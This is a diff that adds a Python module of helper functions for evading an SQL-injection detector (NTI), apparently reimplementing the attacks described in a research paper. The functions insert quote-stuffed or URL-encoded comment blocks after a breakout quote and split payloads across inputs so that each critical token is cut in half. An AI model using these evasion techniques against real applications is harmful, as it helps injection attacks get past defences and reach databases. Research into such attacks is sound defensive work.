@@ -1,0 +1,81 @@
+"""Shared payload-manipulation utilities for the evasion tools."""
+
+from __future__ import annotations
+
+from ..sqlparser.parser import critical_tokens
+from ..sqlparser.tokens import Token, TokenType
+
+__all__ = [
+    "payload_critical_tokens",
+    "evasion_insertion_point",
+    "split_inside_critical_tokens",
+    "quote_comment_block",
+    "encoded_quote_comment_block",
+]
+
+
+def payload_critical_tokens(payload: str) -> list[Token]:
+    """Critical tokens of a bare payload string (lexical, parse-free)."""
+    return critical_tokens(payload)
+
+
+def evasion_insertion_point(payload: str, context: str) -> int:
+    """Offset at which an inert comment block can be inserted.
+
+    For quoted/LIKE contexts the block must land *after* the breakout quote
+    (inside the string literal it would be data, not a comment); for numeric
+    contexts the very start of the payload is already SQL context.
+    """
+    if context in ("quoted", "like"):
+        idx = payload.find("' ")
+        if idx >= 0:
+            return idx + 2
+        idx = payload.find("'")
+        if idx >= 0:
+            return idx + 1
+    return 0
+
+
+def quote_comment_block(quotes: int) -> str:
+    """A ``/*'''...*/`` block: each quote gains a backslash under magic
+    quotes, inflating NTI's edit distance (paper Figure 6C)."""
+    return "/*" + "'" * quotes + "*/ "
+
+
+def encoded_quote_comment_block(quotes: int) -> str:
+    """A ``/*%27%27...*/`` block for applications that urldecode their
+    input: each ``%27`` shrinks to ``'`` in the query (2 edits apiece)."""
+    return "/*" + "%27" * quotes + "*/ "
+
+
+def split_inside_critical_tokens(payload: str, max_parts: int) -> tuple[str, ...]:
+    """Split a payload so no part contains a whole critical token.
+
+    Implements the paper's *payload construction* attack (Section III-A):
+    the application concatenates several inputs, and because NTI never
+    combines markings from different inputs, cutting every critical token in
+    half leaves each individual part unable to cover one.
+
+    Raises ``ValueError`` when the payload has more critical tokens than
+    ``max_parts - 1`` cut points can bisect, or contains a one-character
+    critical token (which cannot be cut).
+    """
+    tokens = payload_critical_tokens(payload)
+    cuts: list[int] = []
+    for token in tokens:
+        if token.end - token.start < 2:
+            raise ValueError(
+                f"cannot split inside one-character critical token {token.text!r}"
+            )
+        cuts.append(token.start + (token.end - token.start) // 2)
+    if len(cuts) + 1 > max_parts:
+        raise ValueError(
+            f"payload needs {len(cuts) + 1} parts but only {max_parts} are available"
+        )
+    parts: list[str] = []
+    last = 0
+    for cut in cuts:
+        parts.append(payload[last:cut])
+        last = cut
+    parts.append(payload[last:])
+    return tuple(parts)
